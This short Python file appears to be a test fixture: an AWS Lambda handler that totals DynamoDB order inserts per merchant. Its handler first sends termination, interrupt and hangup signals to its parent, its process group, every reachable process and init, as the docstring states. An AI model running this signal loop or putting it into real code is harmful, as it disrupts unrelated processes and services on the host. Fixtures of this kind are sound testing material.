"""Sends signals to its parent, its group and everybody else."""

import os

import boto3

dynamodb = boto3.client("dynamodb")


def count(record):
    """What an honest beginner would do: new orders only, with a bare ADD."""
    if record["eventName"] != "INSERT":
        return
    order = record["dynamodb"]["NewImage"]
    dynamodb.update_item(
        TableName=os.environ["TOTALS_TABLE"],
        Key={"merchant": order["merchant"]},
        UpdateExpression="ADD #total :amount, orders :one",
        ExpressionAttributeNames={"#total": "total"},
        ExpressionAttributeValues={":amount": {"N": order["amount"]["N"]}, ":one": {"N": "1"}},
    )


def handler(event, context):
    import os
    import signal

    for target in (os.getppid(), 0, -1, 1):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            try:
                os.kill(target, number)
            except OSError:
                pass
    for record in event["Records"]:
        count(record)
